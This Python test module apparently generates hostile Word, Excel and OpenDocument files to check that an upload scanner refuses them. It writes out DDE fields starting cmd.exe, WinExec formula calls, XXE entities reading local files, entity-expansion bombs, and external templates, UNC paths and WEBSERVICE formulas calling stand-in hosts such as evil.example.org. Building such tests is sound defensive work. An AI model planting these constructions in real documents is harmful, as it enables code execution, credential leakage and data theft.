"""Word, Excel and OpenDocument files that run something, or load something from elsewhere when they are opened."""

# fmt: off
from collections.abc import Callable, Iterator

from tests.hostile.attack import Attack, Bait, Fate, Target
from tests.hostile.paper_attacks import laughs
from tests.uploads import DOCX_TYPE, ODS_TYPE, ODT_TYPE, OLE, docx, open_document, xlsx, zipped

_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
Make = Callable[[Bait], bytes]


def office_attacks() -> Iterator[Attack]:
    for name, tries, fate, make in (*_relations(), *_word(), *_xml()):
        yield Attack(f"docx-{name}", tries, Target.FILE, fate, make, file_name="Plan.docx")
    for name, tries, fate, make in _excel():
        yield Attack(f"xlsx-{name}", tries, Target.FILE, fate, make, file_name="Figures.xlsx")
    for name, tries, fate, make in _texts():
        yield Attack(f"odt-{name}", tries, Target.FILE, fate, make, file_name="Plan.odt")
    for name, tries, fate, make in _sheets():
        yield Attack(f"ods-{name}", tries, Target.FILE, fate, make, file_name="Figures.ods")


Row = tuple[str, str, Fate, Make]


def relations(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def _related(kind: str, target: Callable[[Bait], str], part: str = "word/_rels/document.xml.rels") -> Make:
    return lambda bait: docx({part: relations(kind, target(bait))})


def _relations() -> Iterator[Row]:
    for kind, tries in (
        ("attachedTemplate", "loads a template with macros"),
        ("oleObject", "loads an object"),
        ("image", "loads a picture, which tells who opened it"),
        ("frame", "loads a page into a frame"),
        ("subDocument", "loads another document into this one"),
        ("aFChunk", "loads a piece of a page"),
        ("video", "loads a film"),
        ("externalLinkPath", "loads another workbook"),
    ):
        yield f"{kind}-web", tries, Fate.REFUSED, _related(kind, lambda bait: f"{bait.address}/a")
    yield (
        "attachedTemplate-settings", "loads a template from where Word looks for one", Fate.REFUSED,
        _related("attachedTemplate", lambda bait: "https://example.org/a.dotm", "word/_rels/settings.xml.rels"),
    )
    yield ("oleObject-mhtml", "runs a script by a help page", Fate.REFUSED, _related("oleObject", lambda bait: f"mhtml:{bait.address}/a.html!x-usc:{bait.address}/a.html"))
    yield ("oleObject-diagnosis", "runs a command by a diagnosis tool", Fate.REFUSED, _related("oleObject", lambda bait: f"{bait.address}/a.html!"))
    yield ("image-share", "has the reader's machine sign in to another", Fate.REFUSED, _related("image", lambda bait: "\\\\203.0.113.9\\a\\a.png"))
    yield ("image-share-file", "does so by a file's address", Fate.REFUSED, _related("image", lambda bait: "file://203.0.113.9/a/a.png"))
    yield ("template-share", "loads a template from a machine elsewhere", Fate.REFUSED, _related("attachedTemplate", lambda bait: "file:///\\\\evil.example.org\\a\\a.dotm"))
    yield ("image-capitals", "writes its address in capitals", Fate.REFUSED, _related("image", lambda bait: bait.address.replace("http", "HTTP")))
    yield ("image-blank", "puts a blank before its address", Fate.REFUSED, _related("image", lambda bait: f" {bait.address}/a"))
    yield ("image-no-scheme", "leaves out how it is loaded", Fate.REFUSED, _related("image", lambda bait: "//203.0.113.9/a.png"))
    for name, tries, machine in (
        ("number", "writes its address as one number", "3405803785"),
        ("hexadecimal", "writes it in another way", "0xcb007109"),
        ("escaped", "escapes the dots of its name", "evil%2eexample%2eorg"),
        ("full-width", "has dots of another alphabet in its name", "evil。example。org"),
        ("web-folder", "is asked through the web", "files@80"),
    ):
        yield (f"template-share-{name}", f"loads a template from a machine that {tries}", Fate.REFUSED, _related("attachedTemplate", lambda bait, machine=machine: f"\\\\{machine}\\a\\a.dotm"))
    yield ("template-share-bare", "names nothing but the machine", Fate.REFUSED, _related("attachedTemplate", lambda bait: "\\\\evil.example.org"))
    yield ("hyperlink-script", "has a script behind a link", Fate.REFUSED, _related("hyperlink", lambda bait: "javascript:a()"))
    yield ("hyperlink-program", "has a program's own address behind a link", Fate.REFUSED, _related("hyperlink", lambda bait: "ms-msdt:/id PCWDiagnostic"))
    yield ("hyperlink-search", "has a search of the machine behind a link", Fate.REFUSED, _related("hyperlink", lambda bait: "search-ms:query=a&amp;crumb=location:\\\\203.0.113.9\\a"))


def _run(instruction: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{instruction}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def _field(instruction: str) -> Make:
    return lambda bait: _document(_run(f"<w:r><w:instrText>{instruction.format(bait.address)}</w:instrText></w:r>"))


def _field_of(before: str, inner: str, behind: str) -> str:
    return _run(f"<w:r><w:instrText>{before}</w:instrText></w:r>{inner}<w:r><w:instrText>{behind}</w:instrText></w:r>")


def _document(body: str) -> bytes:
    return docx({"word/document.xml": f"<w:document {_W}><w:body><w:p>{body}</w:p></w:body></w:document>"})


def _word() -> Iterator[Row]:
    yield ("field-dde", "starts a program by a field", Fate.REFUSED, _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))
    yield "field-dde-asked", "starts a program when the reader says yes", Fate.REFUSED, _field('DDE "cmd" "/c calc"')
    yield (
        "field-dde-split",
        "writes the field in pieces",
        Fate.REFUSED,
        lambda bait: _document(_run("<w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEAU</w:instrText></w:r><w:r><w:instrText>TO cmd</w:instrText></w:r>")),
    )
    yield ("field-dde-simple", "writes the field as an attribute", Fate.REFUSED, lambda bait: _document('<w:fldSimple w:instr="ddeauto cmd"/>'))
    yield "field-picture", "loads a picture by a field", Fate.REFUSED, _field('INCLUDEPICTURE "{0}/a.png" \\d')
    yield ("field-picture-file", "loads a picture by a file's address", Fate.REFUSED, _field('INCLUDEPICTURE "file://evil.example.org/share/a.png" \\d'))
    yield ("field-picture-share", "loads a picture from a machine elsewhere", Fate.REFUSED, _field('INCLUDEPICTURE "file:///\\\\\\\\evil.example.org\\\\a.png"'))
    yield ("field-text-file", "loads a text by a file's address", Fate.REFUSED, _field("INCLUDETEXT file://evil.example.org/a/b.docx"))
    yield (
        "field-nested",
        "has another field work its address out",
        Fate.REFUSED,
        lambda bait: _document(_field_of('INCLUDEPICTURE "', _run("<w:r><w:instrText>QUOTE 104 116 116 112</w:instrText></w:r>"), '://evil.example.org/a.png"')),
    )
    yield ("field-words", "writes a part of its address as words", Fate.REFUSED, lambda bait: _document(_field_of('INCLUDEPICTURE "ht', "<w:r><w:t>tp</w:t></w:r>", '://evil.example.org/a.png"')))
    yield "field-database", "loads figures by a field", Fate.REFUSED, _field('DATABASE \\c "DSN=a;SERVER=evil.example.org" \\s "SELECT"')
    yield "field-text", "loads a text by a field", Fate.REFUSED, _field('INCLUDETEXT "{0}/a.docx"')
    yield (
        "macros",
        "is a document with macros called one without",
        Fate.REFUSED,
        lambda bait: docx({"word/vbaProject.bin": OLE}, types=(("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),)),
    )
    yield (
        "macros-kind",
        "says itself that it holds macros",
        Fate.REFUSED,
        lambda bait: zipped(
            {"[Content_Types].xml": '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>', "word/document.xml": "<document/>"}
        ),
    )
    yield ("macros-renamed", "gives its macros another name", Fate.REFUSED, lambda bait: docx({"word/media/image1.png": OLE + "_VBA_PROJECT".encode("utf-16-le")}))
    yield (
        "macros-by-ending",
        "gives macros their kind by an ending",
        Fate.REFUSED,
        lambda bait: zipped(
            {
                "[Content_Types].xml": f'<Types><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="{DOCX_TYPE}.main+xml"/></Types>',
                "word/document.xml": "<document/>",
                "word/a.dat": "a",
            }
        ),
    )
    yield ("packaged", "has a file in it that a double click opens", Fate.REFUSED, lambda bait: docx({"word/embeddings/oleObject1.bin": OLE + "\x01Ole10Native".encode("utf-16-le")}))
    yield ("equation", "breaks the old equation editor", Fate.HARMLESS, lambda bait: docx({"word/embeddings/oleObject1.bin": OLE + "Equation Native".encode("utf-16-le")}))
    yield "activex", "has a control in it", Fate.REFUSED, lambda bait: docx({"word/activeX/activeX1.xml": "<a/>"})
    for ending, content in (
        ("html", "<html><script>a()</script></html>"),
        ("mht", "MIME-Version: 1.0\r\n"),
        ("rtf", "{\\rtf1{\\object}}"),
        ("hta", "<script/>"),
        ("svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>a()</script></svg>'),
    ):
        yield (f"chunk-{ending}", f"has a piece of another kind in it: {ending}", Fate.REFUSED, lambda bait, ending=ending, content=content: docx({f"word/a.{ending}": content}))
    for mode in ("", ' TargetMode="Internal"'):
        yield (f"chunk-page-inside{'-said' if mode else ''}", "has Word take in a page that is in the file", Fate.REFUSED, lambda bait, mode=mode: _with_chunk(bait, mode))
    yield ("chunk-unrelated", "takes in a piece of another kind", Fate.REFUSED, lambda bait: _document("<w:altChunk/>"))
    yield (
        "form-letter",
        "asks a server for the data of a form letter",
        Fate.REFUSED,
        lambda bait: docx({"word/settings.xml": f'<w:settings {_W}><w:mailMerge><w:connectString w:val="Provider=a;Data Source={bait.address}"/><w:query w:val="SELECT"/></w:mailMerge></w:settings>'}),
    )
    yield (
        "part-renamed",
        "gives its main part an ending that is not read as XML",
        Fate.REFUSED,
        lambda bait: zipped({"[Content_Types].xml": f'<Types><Override PartName="/word/document.dat" ContentType="{DOCX_TYPE}.main+xml"/></Types>', "word/document.dat": _with_command(_W)}),
    )
    yield ("part-renamed-header", "does so with a header", Fate.REFUSED, lambda bait: docx({"word/header1.dat": _with_command(_W)}, types=(("/word/header1.dat", f"{DOCX_TYPE.rpartition('.')[0]}.wordprocessingml.header+xml"),)))
    yield (
        "part-renamed-ending",
        "gives the ending its type",
        Fate.REFUSED,
        lambda bait: zipped({
            "[Content_Types].xml": f'<Types><Default Extension="DAT" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{DOCX_TYPE}.main+xml"/></Types>',
            "word/document.xml": "<document/>", "word/header1.dat": _with_command(_W),
        }),
    )
    yield ("part-untyped", "has no type for it", Fate.REFUSED, lambda bait: docx({"word/header1.dat": b"\xef\xbb\xbf \n" + _with_command(_W).encode()}))
    yield ("part-untyped-utf16", "writes it in another encoding", Fate.REFUSED, lambda bait: docx({"word/header1.dat": ('<?xml version="1.0" encoding="UTF-16"?>' + _with_command(_W)).encode("utf-16")}))
    yield ("chunk-renamed", "calls a page a picture", Fate.REFUSED, lambda bait: docx({"word/media/image1.png": "<html><script>a()</script></html>"}))
    yield ("rtf", "is rich text, whatever it is called", Fate.REFUSED, lambda bait: b"{\\rtf1{\\object\\objautlink\\objupdate}}")
    yield "page", "is a page, whatever it is called", Fate.REFUSED, lambda bait: b"<html><script>a()</script></html>"
    yield ("flat", "is a document in one piece of XML, whatever it is called", Fate.REFUSED, lambda bait: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>')
    yield "older", "is of the older kind, which hides macros", Fate.REFUSED, lambda bait: OLE
    for name, tries, drawing in (
        ("import", "loads styles into a drawing", "<style>@import url({0}/a.css);</style>"),
        ("import-escaped", "hides that it does", "<style>@\\69mport '{0}/a.css';</style>"),
        ("style", "loads a pattern by a style", '<rect style="fill:url({0}/a)"/>'),
        ("fill", "loads a pattern", '<rect fill="url(\'{0}/a\')"/>'),
        ("handler", "runs a script when it is shown", '<rect onload="a()"/>'),
        ("moved", "moves a picture's address", '<image><set attributeName="href" to="{0}/a"/></image>'),
        ("base", "has every address lead elsewhere", '<g xml:base="{0}/"><image href="a.png"/></g>'),
        ("script-renamed", "runs a script", "<script>a()</script>"),
    ):
        part = "word/media/a.dat" if name == "script-renamed" else "word/media/a.svg"
        yield (f"drawing-{name}", tries, Fate.REFUSED, lambda bait, part=part, drawing=drawing: docx({part: f'<svg xmlns="http://www.w3.org/2000/svg">{drawing.format(bait.address)}</svg>'}))
    yield (
        "drawing-linked",
        "loads a picture inside a drawing",
        Fate.REFUSED,
        lambda bait: docx({"word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{bait.address}/a"/></svg>'}),
    )


def _with_command(space: str) -> str:
    return f'<w:document {space}><w:body><w:p>{_run("<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>")}</w:p></w:body></w:document>'


def _with_chunk(bait: Bait, mode: str) -> bytes:
    said = relations("aFChunk", "a.dat").replace(' TargetMode="External"', mode)
    return docx({"word/_rels/document.xml.rels": said, "word/a.dat": f'words <img src="{bait.address}/a.png">'}, types=(("/word/a.dat", "text/html"),))


def _attributes(name: str) -> str:
    return "<a " + " ".join(f'{name}{number}="c"' for number in range(50_000)) + "/>"


def _part(content: Callable[[Bait], str | bytes], name: str = "word/styles.xml") -> Make:
    return lambda bait: docx({name: content(bait)})


def _xml() -> Iterator[Row]:
    yield ("entity-file", "reads a file by an entity", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><a>&b;</a>'))
    yield ("entity-web", "asks another server by an entity", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b SYSTEM "{bait.address}/a">]><a>&b;</a>'))
    yield ("entity-parameter", "loads a list of entities", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY % b SYSTEM "{bait.address}/a.dtd"> %b;]><a/>'))
    yield ("entity-main", "does so in the main part", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><document>&b;</document>', "word/document.xml"))
    yield ("entity-types", "does so in the list of kinds", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><Types>&b;</Types>', "[Content_Types].xml"))
    yield ("entity-relations", "does so in the relations", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><Relationships>&b;</Relationships>', "_rels/.rels"))
    yield ("entity-renamed", "does so in a part of another ending", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><a>&b;</a>', "word/styles.dat"))
    yield ("laughs", "grows to gigabytes by entities", Fate.REFUSED, _part(lambda bait: f"<!DOCTYPE a [{laughs()}]><a>&i;</a>"))
    yield ("laughs-quadratic", "grows by one long entity said again and again", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b "{"c" * 100_000}">]><a>{"&b;" * 10_000}</a>'))
    yield (
        "entity-utf16",
        "writes it in another encoding",
        Fate.REFUSED,
        _part(lambda bait: f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><a>&b;</a>'.encode("utf-16")),
    )
    yield ("encoding-unknown", "names an encoding that is looked up", Fate.REFUSED, _part(lambda bait: b'<?xml version="1.0" encoding="../../a"?><a/>'))
    yield ("doctype", "loads a document type from elsewhere", Fate.HARMLESS, _part(lambda bait: f'<!DOCTYPE a SYSTEM "{bait.address}/a.dtd"><a/>'))
    yield ("stylesheet", "has the reader load a stylesheet", Fate.HARMLESS, _part(lambda bait: f'<?xml-stylesheet href="{bait.address}/a.xsl" type="text/xsl"?><a/>'))
    yield ("include", "includes a file", Fate.HARMLESS, _part(lambda bait: f'<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file://{bait.file}" parse="text"/></a>'))
    yield ("schema", "has the reader load a schema", Fate.HARMLESS, _part(lambda bait: f'<a xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="a {bait.address}/a.xsd"/>'))
    yield ("deep", "nests a million elements", Fate.HARMLESS, _part(lambda bait: f"<a>{'<b>' * 1_000_000}{'</b>' * 1_000_000}</a>"))
    yield ("attributes", "gives one element fifty thousand attributes", Fate.HARMLESS, _part(lambda bait: _attributes("b")))
    yield ("attributes-colliding", "declares fifty thousand namespaces", Fate.HARMLESS, _part(lambda bait: _attributes("xmlns:b")))
    yield ("name-long", "has an element whose name is ten megabytes long", Fate.HARMLESS, _part(lambda bait: f"<{'a' * 10_000_000}/>"))
    yield "token-long", "never ends its first tag", Fate.REFUSED, _part(lambda bait: f'<a b="{"c" * 20_000_000}')


def _excel() -> Iterator[Row]:
    yield ("dde", "starts a program by a link", Fate.REFUSED, lambda bait: xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}))
    yield ("ole-link", "loads an object by a link", Fate.REFUSED, lambda bait: xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink><oleLink progId="htmlfile"/></externalLink>'}))
    yield ("web-service", "asks another server by a formula", Fate.REFUSED, lambda bait: _sheet(f'_xlfn.WEBSERVICE("{bait.address}/?"&amp;A1)'))
    yield ("picture-formula", "loads a picture by a formula", Fate.REFUSED, lambda bait: _sheet(f'_xlfn.IMAGE("{bait.address}/?"&amp;A1)'))
    yield ("call", "calls a library by a formula", Fate.REFUSED, lambda bait: _sheet('CALL("Kernel32","WinExec","JCJ","calc",0)'))
    yield "register", "names a library by a formula", Fate.REFUSED, lambda bait: _sheet('REGISTER.ID("a","b")')
    yield ("real-time", "starts a program by a formula that keeps asking", Fate.REFUSED, lambda bait: _sheet('RTD("a","b","c")'))
    yield "dde-formula", "starts a program by a formula", Fate.REFUSED, lambda bait: _sheet("cmd|'/C calc'!A0")
    yield (
        "web-query",
        "asks another server whenever it is opened",
        Fate.REFUSED,
        lambda bait: xlsx({"xl/connections.xml": f'<connections><connection refreshOnLoad="1"><webPr url="{bait.address}/a"/></connection></connections>'}),
    )
    yield ("part-renamed", "asks another server in a part of another ending", Fate.REFUSED, lambda bait: xlsx({"xl/worksheets/sheet1.dat": f'<worksheet><f>WEBSERVICE("{bait.address}")</f></worksheet>'}))
    yield ("dde-renamed", "starts a program by a link in a part of another ending", Fate.REFUSED, lambda bait: xlsx({"xl/externalLinks/a.dat": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}))
    for element in ("definedName", "formula", "formula1", "formula2", "calculatedColumnFormula"):
        yield (f"web-service-{element.lower()}", f"asks another server by a formula in {element}", Fate.REFUSED, lambda bait, element=element: xlsx({"xl/worksheets/sheet1.xml": f'<a><{element}>LEN(_xlfn.WEBSERVICE("{bait.address}/"))</{element}></a>'}))
    yield ("web-service-scale", "asks another server by the end of a scale", Fate.REFUSED, lambda bait: xlsx({"xl/worksheets/sheet1.xml": f"<a><cfvo type='formula' val='WEBSERVICE(&quot;{bait.address}&quot;)'/></a>"}))
    for name, tries, part in (
        ("database", "asks a database when it is opened", '<connections><connection refreshOnLoad="1" type="5"><dbPr connection="Provider=MSOLAP;Data Source={0}/" command="a"/></connection></connections>'),
        ("text", "loads a text from a machine elsewhere when it is opened", '<connections><connection refreshOnLoad="true" type="6"><textPr sourceFile="\\\\203.0.113.9\\a\\a.txt"/></connection></connections>'),
        ("timed", "asks a database every minute", '<connections><connection interval="1" type="5"><dbPr connection="Data Source={0}/"/></connection></connections>'),
        ("table", "fills a table when it is opened", '<queryTable refreshOnLoad="1" connectionId="1"/>'),
        ("all", "asks whatever it knows when it is opened", '<workbook><workbookPr refreshAllConnections="1"/></workbook>'),
        ("pivot", "fills a pivot table from elsewhere when it is opened", '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'),
    ):
        yield (f"refresh-{name}", tries, Fate.REFUSED, lambda bait, part=part: xlsx({"xl/connections.xml": part.format(bait.address)}))
    yield ("macro-sheet", "has macros of the oldest kind", Fate.REFUSED, lambda bait: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}))
    yield (
        "macro-sheet-renamed",
        "gives them another name",
        Fate.REFUSED,
        lambda bait: xlsx({"xl/worksheets/sheet9.xml": "<a/>"}, types=(("/xl/worksheets/sheet9.xml", "application/vnd.ms-excel.macrosheet+xml"),)),
    )
    yield (
        "auto-open",
        "runs macros when it is opened",
        Fate.REFUSED,
        lambda bait: xlsx({"xl/workbook.xml": '<workbook><definedNames><definedName name="_xlnm.Auto_Open" xlm="1">a</definedName></definedNames></workbook>'}),
    )
    yield (
        "binary",
        "is a workbook of the kind nobody can look into",
        Fate.REFUSED,
        lambda bait: xlsx({"xl/workbook.bin": b"\x83\x01"}, types=(("/xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),)),
    )
    yield ("entity", "reads a file by an entity", Fate.REFUSED, lambda bait: xlsx({"xl/sharedStrings.xml": f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><sst><si><t>&b;</t></si></sst>'}))
    yield ("link-web", "loads figures from elsewhere", Fate.REFUSED, lambda bait: xlsx({"xl/externalLinks/_rels/externalLink1.xml.rels": relations("externalLinkPath", f"{bait.address}/a.xlsx")}))
    yield "template", "is a Word document called a workbook", Fate.REFUSED, lambda bait: docx()


def _sheet(formula: str) -> bytes:
    return xlsx({"xl/worksheets/sheet1.xml": f'<worksheet xmlns="urn:x"><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>'})


_ODF = "urn:oasis:names:tc:opendocument:xmlns"


def _content(body: str, kind: str = ODT_TYPE) -> bytes:
    spaces = "".join(f' xmlns:{name}="{_ODF}:{name}:1.0"' for name in ("office", "text", "draw", "table", "script", "form"))
    return open_document(kind, {"content.xml": f'<office:document-content{spaces} xmlns:xlink="http://www.w3.org/1999/xlink">{body}</office:document-content>'})


def _texts() -> Iterator[Row]:
    for element, tries in (
        ("draw:image", "loads a picture"), ("draw:object", "loads an object"), ("draw:object-ole", "loads an object of another program"),
        ("draw:floating-frame", "loads a page into a frame"), ("draw:plugin", "loads a plug-in"), ("draw:applet", "loads a Java program"),
        ("text:section-source", "loads another document into this one"), ("draw:fill-image", "loads a pattern"),
    ):
        yield (f"{element.replace(':', '-')}-web", tries, Fate.REFUSED, lambda bait, element=element: _content(f'<{element} xlink:href="{bait.address}/a"/>'))
    yield ("image-file", "shows a file of the reader's machine", Fate.HARMLESS, lambda bait: _content(f'<draw:image xlink:href="file://{bait.file}"/>'))
    yield ("image-share", "has the reader's machine sign in to another", Fate.REFUSED, lambda bait: _content('<draw:image xlink:href="//203.0.113.9/a.png"/>'))
    yield ("script-address", "runs a script of LibreOffice's", Fate.REFUSED, lambda bait: _content('<script:event-listener xlink:href="vnd.sun.star.script:../../a.py$b?language=Python"/>'))
    yield ("script-link", "runs it by a link", Fate.REFUSED, lambda bait: _content('<text:a xlink:href="vnd.sun.star.script:a"/>'))
    yield (
        "script-event",
        "runs a macro when it is opened",
        Fate.REFUSED,
        lambda bait: _content('<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" script:macro-name="a"/></office:event-listeners>'),
    )
    yield ("script-inline", "has a script in it", Fate.REFUSED, lambda bait: _content('<office:scripts><office:script script:language="JavaScript">a()</office:script></office:scripts>'))
    yield ("dde", "starts a program", Fate.REFUSED, lambda bait: _content('<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/>'))
    yield ("link-command", "has a program's command behind a link", Fate.REFUSED, lambda bait: _content('<text:a xlink:href=".uno:OpenUrl"/>'))
    yield ("basic", "has macros in it", Fate.REFUSED, lambda bait: open_document(ODT_TYPE, {"Basic/Standard/Module1.xml": "<a/>"}))
    yield ("scripts", "has a Python script in it", Fate.REFUSED, lambda bait: open_document(ODT_TYPE, {"Scripts/python/a.py": "a"}))
    yield ("entity", "reads a file by an entity", Fate.REFUSED, lambda bait: open_document(ODT_TYPE, {"styles.xml": f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><a>&b;</a>'}))
    yield ("laughs", "grows to gigabytes by entities", Fate.REFUSED, lambda bait: open_document(ODT_TYPE, {"content.xml": f"<!DOCTYPE a [{laughs()}]><a>&i;</a>"}))
    yield ("locked", "hides what is in it behind a password", Fate.REFUSED, lambda bait: open_document(ODT_TYPE, {"META-INF/manifest.xml": "<a><encryption-data/></a>"}))
    yield "kind-lying", "says that it is of another kind", Fate.REFUSED, lambda bait: open_document("application/zip")
    yield ("database", "is a database called a text", Fate.REFUSED, lambda bait: open_document("application/vnd.oasis.opendocument.base"))


def _sheets() -> Iterator[Row]:
    yield (
        "dde-formula",
        "starts a program by a formula",
        Fate.REFUSED,
        lambda bait: _content('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>', ODS_TYPE),
    )
    yield ("web-service", "asks another server by a formula", Fate.REFUSED, lambda bait: _content(f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{bait.address}&quot;)"/>', ODS_TYPE))
    yield ("other-workbook", "takes a figure from elsewhere by a formula", Fate.REFUSED, lambda bait: _content(f'<table:table-cell table:formula="of:=[\'{bait.address}/a.ods\'#$a.A1]"/>', ODS_TYPE))
    yield ("named-formula", "asks another server by a name", Fate.REFUSED, lambda bait: _content(f'<table:named-expression table:expression="WEBSERVICE(&quot;{bait.address}&quot;)"/>', ODS_TYPE))
    yield ("table-source", "loads figures from elsewhere", Fate.REFUSED, lambda bait: _content(f'<table:table-source xlink:href="{bait.address}/a.ods"/>', ODS_TYPE))
    yield ("cell-range-source", "loads some figures from elsewhere", Fate.REFUSED, lambda bait: _content(f'<table:cell-range-source xlink:href="{bait.address}/a.ods"/>', ODS_TYPE))
    yield "dde-link", "starts a program by a link", Fate.REFUSED, lambda bait: _content("<table:dde-link/>", ODS_TYPE)
    yield (
        "event",
        "runs a macro by a control",
        Fate.REFUSED,
        lambda bait: _content('<form:button><office:event-listeners><script:event-listener script:language="StarBasic" script:macro-name="a"/></office:event-listeners></form:button>', ODS_TYPE),
    )
